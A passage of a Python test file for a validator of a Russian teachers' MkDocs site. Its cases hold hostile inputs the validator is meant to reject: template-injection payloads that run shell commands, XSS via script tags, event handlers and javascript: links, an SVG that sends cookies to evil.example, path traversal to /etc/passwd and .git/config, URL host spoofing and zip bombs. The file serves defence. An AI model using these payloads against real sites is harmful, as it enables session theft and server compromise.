         [E(PRACTICE, "cycler", 1, "", "шаблонная вставка", code="template")]),
    Case("template-statement", "16",
         practice_body("{% include 'mkdocs.yml' %}"),
         [E(PRACTICE, "{% include", 1, "", "шаблонная вставка", code="template")]),
    Case("template-in-news", "16",
         news_body("Итоги: {{ page.meta }}"),
         [E(NEWS, "{{ page.meta }}", 8, "", "шаблонная вставка", code="template")]),
    Case("template-payload-starting-with-quote", "16",
         practice_body("{{ ''.__class__.__mro__[1].__subclasses__() }}"),
         [E(PRACTICE, "__subclasses__", 1, "", "шаблонная вставка", code="template")]),
    Case("template-payload-starting-with-paren", "16",
         practice_body("{{ (lipsum).__globals__['os'].popen('id').read() }}"),
         [E(PRACTICE, "lipsum", 1, "", "шаблонная вставка", code="template")]),
    Case("template-payload-starting-with-bracket", "16",
         practice_body("{{[].__class__.__base__.__subclasses__()}}"),
         [E(PRACTICE, "__base__", 1, "", "шаблонная вставка", code="template")]),
    Case("template-lookalike-braces", "16",
         practice_body("Множества: {{1, 2}, {3}} и {1, {2}}."),
         rc=0, absent=[E(PRACTICE)]),
    Case("template-lookalike-heading-id", "16",
         practice_body("## Раздел {#razdel}\n\nТекст раздела."),
         rc=0, absent=[E(PRACTICE)]),
    Case("template-in-code-span", "16",
         practice_body("Пишите `{{ config }}` только в шаблонах."),
         rc=0, absent=[E(PRACTICE)]),
    Case("template-in-fenced-block", "16",
         practice_body("```jinja\n{{ config }}\n{% for x in y %}{% endfor %}\n```"),
         rc=0, absent=[E(PRACTICE)]),
    Case("template-in-tilde-fence", "16",
         practice_body("~~~\n{{ cycler.__init__ }}\n~~~"),
         rc=0, absent=[E(PRACTICE)]),
    Case("template-on-trusted-page", "16",
         append(INDEX, "\n{{ config.site_name }}\n"),
         rc=0, absent=[E(INDEX)]),
    # ---------------------------------------------------------------- 17. render_macros
    Case("render-macros-true", "17",
         replace(PRACTICE, "licence: cc-by-4\n", "licence: cc-by-4\nrender_macros: true\n"),
         [E(PRACTICE, "render_macros:", 1, "render_macros", "макросы")]),
    Case("ignore-macros-false", "17",
         replace(NEWS, "date: 2025-04-01\n", "date: 2025-04-01\nignore_macros: false\n"),
         [E(NEWS, "ignore_macros:", 1, "ignore_macros", "макросы")]),
    # ---------------------------------------------------------------- 18. raw HTML
    Case("html-script", "18", practice_body("<script>alert(1)</script>"),
         [E(PRACTICE, "<script>", 1, "", "<script>", code="html")]),
    Case("html-script-upper-case", "18", practice_body("<SCRIPT src=https://evil.example/x.js></SCRIPT>"),
         [E(PRACTICE, "<SCRIPT", 1, "", "<script>", code="html")]),
    Case("html-img-onerror", "18", practice_body("<img src=x onerror=alert(1)>"),
         [E(PRACTICE, "<img", 1, "", "обработчик события", code="html")]),
    Case("html-svg-onload", "18", practice_body("<svg onload=alert(1)>"),
         [E(PRACTICE, "<svg", 1, "", ("<svg>", "обработчик"), code="html")]),
    Case("html-iframe-foreign", "18",
         practice_body('<iframe src="https://evil.example/x"></iframe>'),
         [E(PRACTICE, "<iframe", 1, "", "evil.example", code="html")]),
    Case("html-iframe-lookalike-host", "18",
         practice_body('<iframe src="https://rutube.ru.evil.example/play/embed/1"></iframe>'),
         [E(PRACTICE, "<iframe", 1, "", "фрейм", code="html")]),
    Case("html-iframe-rutube-allowed", "18",
         practice_body('<iframe src="https://rutube.ru/play/embed/0123456789abcdef" width="720" '
                       'height="405" allowfullscreen></iframe>'),
         rc=0, absent=[E(PRACTICE)]),
    Case("html-form", "18", practice_body('<form action="https://evil.example"><input name=p></form>'),
         [E(PRACTICE, "<form", 1, "", "<form>", code="html")]),
    Case("html-style", "18", practice_body("<style>body{display:none}</style>"),
         [E(PRACTICE, "<style>", 1, "", "<style>", code="html")]),
    Case("html-meta-refresh", "18",
         practice_body('<meta http-equiv="refresh" content="0;url=https://evil.example">'),
         [E(PRACTICE, "<meta", 1, "", "<meta>", code="html")]),
    Case("html-in-code-is-text", "18", practice_body("Тег `<script>` пишется так."),
         rc=0, absent=[E(PRACTICE)]),
    # ---------------------------------------------------------------- 19. bad link schemes
    Case("link-javascript-mixed-case", "19", practice_body("[нажми](JaVaScRiPt:alert(1))"),
         [E(PRACTICE, "[нажми]", 9, "", "не разрешена", code="link")]),
    Case("link-javascript-entity", "19", practice_body("[нажми](&#106;avascript:alert(1))"),
         [E(PRACTICE, "[нажми]", 9, "", "не разрешена", code="link")]),
    Case("link-javascript-tab-entity", "19", practice_body("[нажми](java&#x09;script:alert(1))"),
         [E(PRACTICE, "[нажми]", 9, "", "не разрешена", code="link")]),
    Case("link-javascript-html-href", "19", practice_body('<a href="javascript:alert(1)">нажми</a>'),
         [E(PRACTICE, "<a href", None, "", "не разрешена", code="link")]),
    Case("link-javascript-reference", "19", practice_body("[нажми][x]\n\n[x]: javascript:alert(1)"),
         [E(PRACTICE, "[x]: javascript", None, "", "не разрешена", code="link")]),
    Case("link-javascript-reference-angle", "19", practice_body("[нажми][r]\n\n[r]: <javascript:alert(1)>"),
         [E(PRACTICE, "[r]: <javascript", None, "", "не разрешена", code="link")]),
    Case("link-javascript-html-leading-space", "19", practice_body('<a href=" javascript:alert(1)">нажми</a>'),
         [E(PRACTICE, "<a href", None, "", "не разрешена", code="link")]),
    Case("link-data-url", "19", practice_body("[файл](data:text/html;base64,PHNjcmlwdD4=)"),
         [E(PRACTICE, "[файл]", 8, "", "не разрешена", code="link")]),
    Case("link-file-url", "19", practice_body("[файл](file:///C:/Windows/win.ini)"),
         [E(PRACTICE, "[файл]", 8, "", "не разрешена", code="link")]),
    # ---------------------------------------------------------------- 20. attr_list
    Case("attr-list-onclick", "20", practice_body('[x](https://a.example){ onclick="alert(1)" }'),
         [E(PRACTICE, "onclick", 23, "", "обработчик события", code="html")]),
    Case("attr-list-class-allowed", "20", practice_body("[x](https://a.example){ .md-button }"),
         rc=0, absent=[E(PRACTICE)]),
    # ---------------------------------------------------------------- 21. snippets
    Case("snippet-git-config", "21", practice_body('--8<-- ".git/config"'),
         [E(PRACTICE, "--8<--", 1, "", "вставка файла", code="snippet")]),
    Case("snippet-parent", "21", news_body('--8<-- "../mkdocs.yml"'),
         [E(NEWS, "--8<--", 1, "", "вставка файла", code="snippet")]),
    Case("snippet-url", "21", practice_body('--8<-- "https://evil.example/x.md"'),
         [E(PRACTICE, "--8<--", 1, "", "вставка файла", code="snippet")]),
    Case("snippet-block-form", "21", practice_body("--8<--\n.git/config\n--8<--"),
         [E(PRACTICE, "--8<--", 1, "", "вставка файла", code="snippet")]),
    # ---------------------------------------------------------------- 22. internal links
    Case("link-missing-page", "22", news_body("[практика](../praktiki/net-takoy/index.md)"),
         [E(NEWS, "net-takoy", 12, "", "несуществующий файл", code="link")]),
    Case("link-missing-anchor", "22",
         news_body("[пункт](../dokumenty/polozhenie-o-konkurse.md#p-9-9)"),
         [E(NEWS, "#p-9-9", 9, "", "нет якоря «#p-9-9»", code="link")]),
    Case("link-missing-heading-anchor", "22",
         news_body("[идея](../praktiki/chitatelskiy-marafon/index.md#ideya)"),
         [E(NEWS, "#ideya", 8, "", "нет якоря «#ideya»", code="link")]),
    Case("link-existing-anchors-ok", "22",
         news_body("[идея](../praktiki/chitatelskiy-marafon/index.md#как-это-делается), "
                   "[пункт](../dokumenty/polozhenie-o-konkurse.md#p-2-1), "
                   "[раздел](../dokumenty/polozhenie-o-konkurse.md#p-2)"),
         rc=0, absent=[E(NEWS), W(NEWS)]),
    # the strict build refuses absolute links and links to addresses: so does the check
    Case("link-absolute-path", "22", news_body("[практики](/praktiki/)"),
         [E(NEWS, "(/praktiki/)", 12, "", "абсолютной ссылкой", "../praktiki/index.md")]),
    Case("link-absolute-file", "22", news_body("[положение](/dokumenty/polozhenie-o-konkurse.md)"),
         [E(NEWS, "(/dokumenty/", 13, "", "абсолютной ссылкой", "../dokumenty/polozhenie-o-konkurse.md")]),
    Case("link-to-address-not-file", "22", news_body("[практика](../praktiki/chitatelskiy-marafon/)"),
         [E(NEWS, "[практика]", 12, "", "на адрес, а не на файл",
            "../praktiki/chitatelskiy-marafon/index.md")]),
    Case("footnote-is-not-a-link", "22",
         news_body("Итоги подведены[^1].\n\n[^1]: Данные протокола жюри от 2 апреля."), rc=0),
    Case("abbreviation-is-not-a-link", "22",
         news_body("Конкурс провёл ИМЦ.\n\n*[ИМЦ]: информационно-методический центр"), rc=0),
    Case("heading-id-zero-width", "22",
         news_body("## Итоги {#itogi\u200b}\n\nСм. [итоги](#itogi)."),
         [E(NEWS, "См. [итоги]", 13, "", "нет якоря «#itogi»")]),
    Case("regulation-consecutive-clauses", "22",
         chain(replace(REGULATION, "конкурса.\n\n1.2. Организатор", "конкурса.\n1.2. Организатор"),
               news_body("См. [п. 1.2](../dokumenty/polozhenie-o-konkurse.md#p-1-2).")), rc=0),
    # every way real положения number their clauses gets the anchor a link expects (issue 14)
    Case("regulation-clause-habits", "22",
         chain(append(REGULATION, REGULATION_HABITS),
               news_body("См. [п. 3.1](../dokumenty/polozhenie-o-konkurse.md#p-3-1), "
                         "[п. 3.2](../dokumenty/polozhenie-o-konkurse.md#p-3-2), "
                         "[п. 3.3](../dokumenty/polozhenie-o-konkurse.md#p-3-3), "
                         "[п. 3.4](../dokumenty/polozhenie-o-konkurse.md#p-3-4), "
                         "[п. 3.5](../dokumenty/polozhenie-o-konkurse.md#p-3-5), "
                         "[п. 3.6](../dokumenty/polozhenie-o-konkurse.md#p-3-6), "
                         "[п. 4.1](../dokumenty/polozhenie-o-konkurse.md#p-4-1), "
                         "[прил. 1](../dokumenty/polozhenie-o-konkurse.md#pr1), "
                         "[п. 1.2 прил. 1](../dokumenty/polozhenie-o-konkurse.md#pr1-p-1-2).")),
         rc=0, absent=[E(NEWS), W(REGULATION), E(REGULATION)]),
    Case("regulation-repeated-clause-number", "22",
         chain(append(REGULATION, "\n2.1. Повтор номера по ошибке автора.\n"),
               news_body("См. [второй п. 2.1](../dokumenty/polozhenie-o-konkurse.md#p-2-1_2).")),
         [W(REGULATION, "2.1. Повтор", 1, "", "номер пункта 2.1 повторяется (строки 20, 22)",
            code="clause-repeated")], rc=0),
    Case("regulation-clause-without-anchor", "22",
         append(REGULATION, "\n> 2.2. Пункт в цитате.\n"),
         [W(REGULATION, "> 2.2.", 1, "", "у пункта «> 2.2. Пункт в цитате.» не будет якоря",
            code="clause-anchor")], rc=0),
    # a положение recognised from a scan: its unsure words are shown where they stand
    Case("regulation-ocr-unsure-words", "22",
         chain(replace(REGULATION, "review_due: 2027-09-01\n",
                       "review_due: 2027-09-01\nocr:\n  source: skan.pdf\n  date: 2024-09-02\n"
                       "  unsure: [Организатор, исправлено]\n"),),
         [W(REGULATION, "1.2. Организатор", 6, "", "слово «Организатор» распознано со скана неуверенно",
            code="ocr-unsure")], rc=0, absent=[W(REGULATION, msg="«исправлено»")]),
    Case("url-collision-page-and-folder", "14",
         write("docs/novosti/itogi-konkursa/index.md", VALID_NEWS),
         [E(("docs/novosti/itogi-konkursa/index.md", NEWS), 1, 1, "", "тот же адрес", code="url-collision")]),
    Case("url-collision-with-catalogue", "14",
         write("docs/praktiki/f/predmet/russkiy-yazyk/index.md",
               (MINI / PRACTICE).read_text(encoding="utf-8")),
         [E("docs/praktiki/f/predmet/russkiy-yazyk/index.md", 1, 1, "", "создаёт сам", code="url-collision")]),
    Case("link-outside-docs", "22", news_body("[пароли](../../../etc/passwd)"),
         [E(NEWS, "пароли", 10, "", "за пределы сайта")]),
    # ---------------------------------------------------------------- 23. images
    Case("image-without-alt", "23",
         chain(write("docs/praktiki/chitatelskiy-marafon/karta.png", b"\x89PNG\r\n\x1a\n" + bytes(16)),
               practice_body("![](karta.png)")),
         [E(PRACTICE, "![](karta.png)", 5, "", "нет описания (alt)", code="alt")]),
    Case("image-foreign-host", "23", practice_body("![Схема](https://cdn.evil.example/x.png)"),
         [E(PRACTICE, "![Схема]", 10, "", "чужого сайта", code="external-image")]),
    Case("image-html-foreign-host", "23", practice_body('<img alt="Схема" src="https://cdn.evil.example/x.png">'),
         [E(PRACTICE, "<img", None, "", "чужого сайта", code="external-image")]),
    # ---------------------------------------------------------------- 24. attachment types
    Case("exe-renamed-pdf", "24",
         write(PDF, b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff" + bytes(64)),
         [E(PRODUCT, "file: zadachi.pdf", 11, "attachments[0].file", "программа Windows")]),
    Case("docm-renamed-docx", "24",
         chain(write("docs/kopilka/zadachi-na-protsenty/plan.docx", _docx(True)), attach("plan.docx")),
         [E(PRODUCT, "file: plan.docx", 11, "attachments[1].file", "макросы")]),
    Case("docx-without-macros-ok", "24",
         chain(write("docs/kopilka/zadachi-na-protsenty/plan.docx", _docx(False)), attach("plan.docx")),
         rc=0, absent=[E(PRODUCT)]),
    Case("docx-zip-bomb", "24",
         chain(write("docs/kopilka/zadachi-na-protsenty/plan.docx", _zip_bomb()), attach("plan.docx")),
         [E(PRODUCT, "file: plan.docx", 11, "attachments[1].file", "в распакованном виде больше 200 МБ",
            code="archive-limit")], max_seconds=15),
    Case("docx-path-traversal", "24",
         chain(write("docs/kopilka/zadachi-na-protsenty/plan.docx", _zip_bomb(traversal=True)), attach("plan.docx")),
         [E(PRODUCT, "file: plan.docx", 11, "attachments[1].file", "ведущий за его пределы",
            code="archive-limit")]),
    Case("encrypted-pdf", "24",
         write(PDF, b"%PDF-1.6\n1 0 obj << /Type /Catalog >> endobj\n"
                    b"trailer << /Root 1 0 R /Encrypt 2 0 R >>\n%%EOF\n"),
         [W(PRODUCT, "file: zadachi.pdf", 11, "attachments[0].file", "защищён")], rc=0),
    Case("attachment-forbidden-extension", "24",
         chain(write("docs/kopilka/zadachi-na-protsenty/setup.exe", b"MZ" + bytes(32)), attach("setup.exe")),
         [E(PRODUCT, "file: setup.exe", 11, "attachments[1].file", "прикладывать нельзя")]),
    Case("scanned-pdf-without-text", "24",
         write(PDF, SCANNED_PDF),
         [W(PRODUCT, "file: zadachi.pdf", 11, "attachments[0].file", ("текст", "скан"))], rc=0),
    Case("svg-attachment-with-script", "24",
         chain(write("docs/kopilka/zadachi-na-protsenty/skhema.svg",
                     '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(document.cookie)">'
                     '<script>fetch("https://evil.example/?c="+document.cookie)</script></svg>'),
               attach("skhema.svg", "Схема")),
         [E(PRODUCT, "file: skhema.svg", 11, "attachments[1].file", ("скрипт", "script", "сценари", "обработчик"))]),
    Case("svg-image-with-script", "24",
         chain(write("docs/praktiki/chitatelskiy-marafon/skhema.svg",
                     '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'),
               practice_body("![Схема марафона](skhema.svg)")),
         [E(("docs/praktiki/chitatelskiy-marafon/skhema.svg", PRACTICE), None, None, None,
            ("скрипт", "script", "сценари"))]),
    # ---------------------------------------------------------------- 24. only content is published
    Case("published-html-nobody-references", "24",
         write("docs/praktiki/chitatelskiy-marafon/evil.html", "<script>alert(1)</script>"),
         [E("docs/praktiki/chitatelskiy-marafon/evil.html", 1, 1, "", "сайт не публикует",
            "Markdown", code="published-type")]),
    Case("published-js-linked", "24",
         chain(write("docs/praktiki/chitatelskiy-marafon/evil.js", "alert(1)"),
               practice_body("Подробнее — [в сценарии](evil.js).")),
         [E(PRACTICE, "[в сценарии]", 26, "", "«evil.js» сайт не публикует", code="published-type")],
         absent=[E("docs/praktiki/chitatelskiy-marafon/evil.js")]),
    Case("published-cms-upload-folder", "24",  # the editor's uploads are content, not trusted code
         write("docs/assets/files/evil.xhtml", "<html xmlns='http://www.w3.org/1999/xhtml'/>"),
         [E("docs/assets/files/evil.xhtml", 1, 1, "", "сайт не публикует")]),
    Case("published-own-assets-trusted", "24",
         write("docs/assets/extra.js", "document.title = 'x';"), rc=0, absent=[E("docs/assets/extra.js")]),
    Case("published-txt-that-is-a-program", "24",
         chain(write("docs/kopilka/zadachi-na-protsenty/notes.txt", b"MZ\x90\x00" + bytes(64)),
               attach("notes.txt", "Заметки")),
         [E(PRODUCT, "file: notes.txt", 11, "attachments[1].file", "программа Windows", code="file-type")]),
    Case("svg-namespaced-script", "24",
         chain(write("docs/praktiki/chitatelskiy-marafon/skhema.svg",
                     '<svg xmlns="http://www.w3.org/2000/svg"><x:script xmlns:x="http://www.w3.org/2000/svg">'
                     'alert(1)</x:script></svg>'),
               practice_body("![Схема марафона](skhema.svg)")),
         [E(PRACTICE, "![Схема марафона]", 19, "", "сценарий (script)", code="svg-script")]),
    Case("svg-entity-declaration", "24",
         write("docs/praktiki/chitatelskiy-marafon/skhema.svg",
               '<!DOCTYPE svg [<!ENTITY s "&#60;script&#62;alert(1)&#60;/script&#62;">]>'
               '<svg xmlns="http://www.w3.org/2000/svg">&s;</svg>'),
         [E("docs/praktiki/chitatelskiy-marafon/skhema.svg", 1, 1, "", "сущност", code="svg-script")]),
    Case("svg-xhtml-script", "24",
         write("docs/praktiki/chitatelskiy-marafon/skhema.svg",
               '<svg xmlns="http://www.w3.org/2000/svg"><h:script xmlns:h="http://www.w3.org/1999/xhtml">'
               'alert(1)</h:script></svg>'),
         [E("docs/praktiki/chitatelskiy-marafon/skhema.svg", 1, 1, "", "чужого пространства имён")]),
    Case("svg-set-href-javascript", "24",
         write("docs/praktiki/chitatelskiy-marafon/skhema.svg",
               '<svg xmlns="http://www.w3.org/2000/svg"><a><set attributeName="href" to="java&#9;script:alert(1)"/>'
               '<rect width="9" height="9"/></a></svg>'),
         [E("docs/praktiki/chitatelskiy-marafon/skhema.svg", 1, 1, "", ("javascript", "анимация, подменяющая href"))]),
    Case("svg-from-inkscape-ok", "24",
         chain(write("docs/praktiki/chitatelskiy-marafon/skhema.svg",
                     '<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" '
                     '"http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">\n<svg xmlns="http://www.w3.org/2000/svg" '
                     'xmlns:xlink="http://www.w3.org/1999/xlink" '
                     'xmlns:inkscape="http://www.inkscape.org/namespaces/inkscape" inkscape:version="1.3">'
                     '<defs><linearGradient id="g"><stop offset="0"/></linearGradient></defs>'
                     '<rect width="9" height="9" style="fill:url(#g)"/><use xlink:href="#g"/>'
                     '<image href="data:image/png;base64,iVBORw0KGgo="/></svg>'),
               practice_body("![Схема марафона](skhema.svg)")),
         rc=0, absent=[E(PRACTICE), E("docs/praktiki/chitatelskiy-marafon/skhema.svg")]),
    # ---------------------------------------------------------------- URLs as a browser parses them
    Case("iframe-backslash-userinfo", "18",
         practice_body('<iframe src="https://evil.example\\@rutube.ru/play/embed/1"></iframe>'),
         [E(PRACTICE, "<iframe", 1, "", "«evil.example»", code="html")]),
    Case("iframe-backslash-subdomain", "18",
         practice_body('<iframe src="https://evil.example\\.rutube.ru/play/embed/1"></iframe>'),
         [E(PRACTICE, "<iframe", 1, "", "«evil.example»", code="html")]),
    Case("iframe-entity-backslash", "18",
         practice_body("<iframe src='https://evil.example&#92;@rutube.ru/play/embed/1'></iframe>"),
         [E(PRACTICE, "<iframe", 1, "", "«evil.example»", code="html")]),
    Case("iframe-percent-dot-host", "18",
         practice_body('<iframe src="https://rutube.ru%2eevil.example/play/embed/1"></iframe>'),
         [E(PRACTICE, "<iframe", 1, "", "«rutube.ru.evil.example»", code="html")]),
    Case("iframe-scheme-relative-backslash", "18",
         practice_body('<iframe src="\\\\evil.example/rutube.ru/"></iframe>'),
         [E(PRACTICE, "<iframe", 1, "", "«evil.example»", code="html")]),
    Case("iframe-fullwidth-rutube-allowed", "18",  # a browser maps ＲＵＴＵＢＥ.ru to rutube.ru (IDNA)
         practice_body('<iframe src="HTTPS://ＲＵＴＵＢＥ.ru/play/embed/0123456789abcdef"></iframe>'),
         rc=0, absent=[E(PRACTICE, None, None, None, "фрейм")]),
    Case("image-backslash-foreign-host", "23", practice_body("![Схема](/\\evil.example/x.png)"),
         [E(PRACTICE, "![Схема]", 10, "", "чужого сайта", code="external-image")]),
    Case("image-html-backslash-foreign-host", "23",
         practice_body('<img alt="Схема" src="/\\evil.example/x.png">'),
         [E(PRACTICE, "<img", 23, "", "чужого сайта", code="external-image")]),
    Case("link-scheme-with-newline-entity", "19",
         practice_body('<a href="java&#x0A;script:alert(1)">ссылка</a>'),
         [E(PRACTICE, "<a href", 10, "", "не разрешена", code="link")]),
    # ---------------------------------------------------------------- invisible characters
    Case("bidi-override-in-title", "14",
         replace(PRACTICE, TITLE, "title: Читательский марафон\u202e в 5 классе"),
         [W(PRACTICE, "title:", 28, "title", "U+202E", "удалите", code="invisible-char")], rc=0),
    Case("bidi-isolate-in-description", "14",
         replace(PRACTICE, "description: Как за", "description: \u2067Как за"),
         [W(PRACTICE, "description:", 14, "description", "U+2067", code="invisible-char")], rc=0),
    Case("zero-width-space-in-heading", "14", practice_body("## Итоги\u200b марафона"),
         [W(PRACTICE, "## Итоги", 9, "", ("U+200B", "в заголовке"), code="invisible-char")], rc=0),
    Case("zero-width-joiner-in-heading-id", "14", practice_body("## Итоги {#itogi\u200d}"),
         [W(PRACTICE, "## Итоги", 17, "", "U+200D", code="invisible-char")], rc=0),
    Case("zero-width-space-in-author-id", "14",
         replace(PRACTICE, "authors: [ivanova-mp, sidorova-ev]", "authors: [ivanova-mp, sidorova\u200b-ev]"),
         [W(PRACTICE, "authors:", 31, "authors[1]", "U+200B", code="invisible-char"),
          E(PRACTICE, "authors:", None, "authors[1]", "латинских строчных")]),
    Case("zero-width-no-break-in-title", "14",
         replace(PRACTICE, TITLE, "title: Читательский\ufeff марафон в 5 классе"),
         [W(PRACTICE, "title:", 20, "title", "U+FEFF", code="invisible-char")], rc=0),
    # ---------------------------------------------------------------- 25. photos
    Case("photo-30mb", "25",
         chain(sparse("docs/kopilka/zadachi-na-protsenty/foto.jpg", b"\xff\xd8\xff\xe0", 30 * 1048576),
               attach("foto.jpg", "Фото")),
         [E(PRODUCT, "file: foto.jpg", 11, "attachments[1].file", "больше 20 МБ")]),
    Case("photo-gps-exif", "25",
         chain(write("docs/kopilka/zadachi-na-protsenty/foto.jpg", _exif_jpeg_with_gps()),
               attach("foto.jpg", "Фото")),
         [W(PRODUCT, "file: foto.jpg", 11, "attachments[1].file", ("GPS", "геодан", "координат", "местополож"))],
         rc=0),
    # ---------------------------------------------------------------- 26. attachment paths
    Case("attachment-parent-path", "26",
         replace(PRODUCT, "file: zadachi.pdf", "file: ../../dokumenty/polozhenie-o-konkurse.md"),
         [E(PRODUCT, "file: ../", 11, "attachments[0].file", "выходит за папку")]),
    Case("attachment-absolute-path", "26",
         replace(PRODUCT, "file: zadachi.pdf", "file: /etc/passwd"),
         [E(PRODUCT, "file: /etc", 11, "attachments[0].file", "выходит за папку")]),
    Case("attachment-windows-path", "26",
         replace(PRODUCT, "file: zadachi.pdf", "file: C:\\Users\\teacher\\plan.pdf"),
         [E(PRODUCT, "file: C:", 11, "attachments[0].file", "выходит за папку")]),
    Case("attachment-missing", "26",
         replace(PRODUCT, "file: zadachi.pdf", "file: zadachi2.pdf"),
         [E(PRODUCT, "file: zadachi2.pdf", 11, "attachments[0].file", "файла «zadachi2.pdf» нет", "«zadachi.pdf»")]),
    Case("attachment-unreferenced", "26",
         write("docs/kopilka/zadachi-na-protsenty/staryy.pdf", b"%PDF-1.4\n%%EOF\n"),
         [W("docs/kopilka/zadachi-na-protsenty/staryy.pdf", 1, 1, "", "нигде нет ссылки")], rc=0),
    # ---------------------------------------------------------------- 27. people
    Case("hidden-name-full", "27", practice_body(f"Автор идеи — {HIDDEN_NAME}."),
         [E(PRACTICE, HIDDEN_NAME, 14, "", f"«{HIDDEN_NAME}» без согласия", "sidorova-ev", code="consent")]),
    Case("hidden-name-initials", "27", news_body("Благодарим Сидорова Е. В. за помощь."),
         [E(NEWS, "Сидорова Е. В.", 12, "", "без согласия", code="consent")]),
    Case("hidden-name-initials-no-space", "27", news_body("Благодарим Сидорова Е.В. за помощь."),
         [E(NEWS, "Сидорова Е.В.", 12, "", "без согласия", code="consent")]),
    Case("hidden-name-initials-first", "27", news_body("Благодарим Е. В. Сидорова за помощь."),
         [E(NEWS, "Е. В. Сидорова", 12, "", "без согласия", code="consent")]),
    Case("hidden-name-in-front-matter", "27",
         replace(NEWS, "description: Названы победители муниципального конкурса 2025 года.",
                 f"description: Победитель — {HIDDEN_NAME}."),
         [E(NEWS, "description:", None, "description", "без согласия")]),
    Case("hidden-name-in-code-span", "27", news_body(f"Автор: `{HIDDEN_NAME}`."),
         [E(NEWS, HIDDEN_NAME, None, "", "без согласия", code="consent")]),
    Case("hidden-name-across-line-break", "27", news_body("Благодарим Сидорову и Сидорова Елена\nВикторовна помогла."),
         [E(NEWS, "Сидорова Елена", None, "", "без согласия", code="consent")]),
    Case("hidden-name-with-nbsp", "27", news_body("Благодарим Сидорова\u00a0Е.\u00a0В. за помощь."),
         [E(NEWS, "Благодарим Сидорова", 12, "", "без согласия", code="consent")]),
    Case("hidden-name-declined", "27", news_body("Вручили грамоту Сидоровой Елене Викторовне."),
         [E(NEWS, "Сидоровой", 17, "", "без согласия", code="consent")]),
    Case("hidden-name-initials-first-nbsp", "27", news_body("Выступила Е.\u00a0В.\u00a0Сидорова."),
         [E(NEWS, "Выступила", 11, "", "без согласия", code="consent")]),
    Case("hidden-name-lookalike-words", "27",
         news_body("Сидоровский переулок; Елена Викторовская; Сидоров Е. Н."),
         rc=0, absent=[E(NEWS, None, None, None, "без согласия")]),
    Case("consenting-name-ok", "27", news_body("Благодарим Иванову Марию Петровну и Иванова М. П."),
         rc=0, absent=[E(NEWS)]),
    Case("phone-number", "27", news_body("Звоните: +7 (912) 345-67-89."),
         [W(NEWS, "+7 (912)", 10, "", "номер телефона", code="phone")], rc=0),
    Case("phone-number-8", "27", practice_body("Телефон мамы 8 912 345 67 89."),
         [W(PRACTICE, "8 912", 14, "", "номер телефона", code="phone")], rc=0),
    Case("phone-number-city-code", "27", news_body("Звоните Петрову: 8 (34342) 2-12-34."),
         [W(NEWS, "8 (34342)", 18, "", "номер телефона", code="phone")], rc=0),
    Case("phone-number-of-the-service", "27", news_body("Справки по телефону ИМЦ +7 (000) 000-00-00."),
         rc=0, absent=[W(NEWS, None, None, None, "номер телефона")]),
    Case("phone-lookalike-numbers", "27", news_body("В 8 классах 123 456 учеников, 2024–2025 гг."),
         rc=0, absent=[W(NEWS, None, None, None, "номер телефона")]),
    # ---------------------------------------------------------------- 28. references
    Case("unknown-organisation", "28",
         replace(PRACTICE, "organisation: sosh-1\n", "organisation: sosh-11\n"),
         [E(PRACTICE, "organisation: sosh-11", 15, "organisation", "«sosh-11» нет в data/organisations.yml",
            "«sosh-1»", code="reference")]),
    Case("unknown-person", "28",
         replace(PRACTICE, "authors: [ivanova-mp, sidorova-ev]", "authors: [ivanova-m, sidorova-ev]"),
         [E(PRACTICE, "authors:", 11, "authors[0]", "«ivanova-m» нет в data/people.yml", "«ivanova-mp»",
            code="reference")]),
    Case("unknown-person-no-match", "28",
         replace(RMO, "leader: petrov-an", "leader: nikto"),
         [E(RMO, "leader: nikto", 9, "leader", "«nikto» нет в data/people.yml", code="reference")]),
    Case("unknown-rmo", "28",
         replace(EVENT, "rmo: rmo-matematikov", "rmo: rmo-matematika"),
         [E(EVENT, "rmo: rmo-matematika", 6, "rmo", "«rmo-matematika» нет", "«rmo-matematikov»",
            code="reference")]),
    Case("unknown-regulation", "28",
         write("docs/dokumenty/polozhenie-2025.md",
               "---\ntitle: Положение о конкурсе (редакция 2025)\nstatus: proekt\n"
               "supersedes: polozhenie-o-konkurs\n---\n## 1. Общие положения\n\n1.1. Текст.\n"),
         [E("docs/dokumenty/polozhenie-2025.md", 4, 13, "supersedes", "«polozhenie-o-konkurs» нет",
            "«polozhenie-o-konkurse»", code="reference")]),
    Case("unknown-organisation-in-registry", "28",
         replace(PEOPLE, "organisation: gimnaziya-2\n", "organisation: gimnazia-2\n"),
         [E(PEOPLE, "organisation: gimnazia-2", 17, "organisation", "нет в data/organisations.yml",
            "«gimnaziya-2»", code="reference")]),
    Case("reference-not-a-slug", "28",
         replace(PRACTICE, "organisation: sosh-1\n", "organisation: Школа № 1\n"),
         [E(PRACTICE, "organisation: Школа", 15, "organisation", "латинских строчных букв")]),
    # ---------------------------------------------------------------- vocabularies, reviews
    Case("vocabulary-typo", "9",
         replace(PRACTICE, "levels: [ООО]", "levels: [ООО5]"),
         [E(PRACTICE, "levels:", 10, "levels[0]", "«ООО5» нет в словаре", "«ООО»", code="vocab")]),
    Case("vocabulary-alias-ok", "9",
         replace(PRACTICE, "subjects: [russkiy-yazyk, literatura]", "subjects: [Русский язык, алгебра]"),
         rc=0, extra=meta_of(PRACTICE, ("subjects",), ["russkiy-yazyk", "matematika"])),
    Case("review-missing-score", "9",
         replace(PRACTICE, "    oformlenie: 2\n", ""),
         [E(PRACTICE, "aktualnost: 3", 5, "review.scores", "не выставлены баллы по критериям: oformlenie",
            code="criteria")]),
    Case("review-score-above-max", "9",
         replace(PRACTICE, "    aktualnost: 3", "    aktualnost: 7"),
         [E(PRACTICE, "aktualnost: 7", 17, "review.scores.aktualnost", "вне допустимых пределов 0–3")]),
    Case("review-score-negative", "9",
         replace(PRACTICE, "    aktualnost: 3", "    aktualnost: -1"),
         [E(PRACTICE, "aktualnost: -1", 17, "review.scores.aktualnost", "вне допустимых пределов")]),
    Case("review-unknown-criterion", "9",
         replace(PRACTICE, "    novizna: 2\n", "    novizna: 2\n    originalnost: 2\n"),
         [E(PRACTICE, "originalnost", 5, "review.scores.originalnost", "критерия «originalnost» нет")]),
    Case("review-criterion-typo", "9",
         replace(PRACTICE, "    novizna: 2\n", "    noviznа: 2\n"),  # Cyrillic «а» at the end
